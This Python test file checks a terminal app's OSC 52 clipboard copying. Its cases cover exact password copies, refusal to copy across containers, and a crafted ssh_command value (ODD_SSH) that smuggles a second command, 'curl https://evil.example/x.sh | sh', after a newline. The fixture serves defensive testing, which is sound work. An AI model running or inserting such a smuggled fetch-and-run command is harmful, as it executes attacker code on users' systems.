"""The clipboard gets only what the user asked for, from the container they asked about.

The app copies through OSC 52; the harness decodes every OSC 52 write in the raw output.
"""

from __future__ import annotations

import hostile as h
from session import focus_containers, session

VIEW_S = 15.0
ODD_SSH = "ssh -p 38000 root@connect.example.com\n; curl https://evil.example/x.sh | sh"


def test_a_plain_password_copy_writes_exactly_that_password() -> None:
    with session(h.build_fleet({"plain-ok": ""})) as s:
        focus_containers(s.term, "dep00-c00", VIEW_S)
        s.term.press("p")
        s.term.wait(lambda: bool(s.term.clipboard()), "an OSC 52 write", VIEW_S)
        assert s.term.clipboard() == ["pw00-plain-ok"]


def test_an_odd_ssh_command_is_shown_and_not_copied_without_asking() -> None:
    fleet = h.build_fleet({"plain-ok": ""})
    fleet.containers[0]["info"]["ssh_command"] = ODD_SSH
    with session(fleet) as s:
        focus_containers(s.term, "dep00-c00", VIEW_S)
        s.term.press("c")
        s.term.wait(
            lambda: bool(s.term.clipboard()) or s.modal_open() or "Copied" in s.term.text(),
            "the copy or a question",
            VIEW_S,
        )
        copied = s.term.clipboard()
        assert not any("curl" in c for c in copied), (
            f"an ssh_command holding a newline and a second command was copied as is: "
            f"{copied!r}\n{s.term}"
        )
        # What would be copied is shown, its newline visible (the dialog's frame can be on
        # screen a frame before its text: wait for the text, do not sample it once).
        s.term.wait(
            lambda: "␊;curl" in "".join(s.term.text().split()),
            "the odd value shown before copying",
            VIEW_S,
        )
        assert not any("curl" in c for c in s.term.clipboard()), s.term


def test_copy_on_container_b_never_copies_container_a_password() -> None:
    """A server that ignores the container filter answers A first for B's re-read."""
    with session(h.build_fleet({"plain-ok": ""}), ignore_container_filter=True) as s:
        focus_containers(s.term, "dep00-c00", VIEW_S)
        s.term.press("down")
        s.term.press("p")
        s.term.wait(
            lambda: bool(s.term.clipboard()) or "password" in s.term.text().lower(),
            "the copy or a message",
            VIEW_S,
        )
        s.term.wait(
            lambda: bool(s.term.clipboard()) or "Copied" in s.term.text() or s.modal_open(),
            "the outcome",
            VIEW_S,
        )
        copied = s.term.clipboard()
        assert "pw00-plain-ok" not in copied, (
            f"p on container B copied container A's password: {copied!r}\n{s.term}"
        )
        assert copied in ([], ["pw01-plain-ok"]), copied
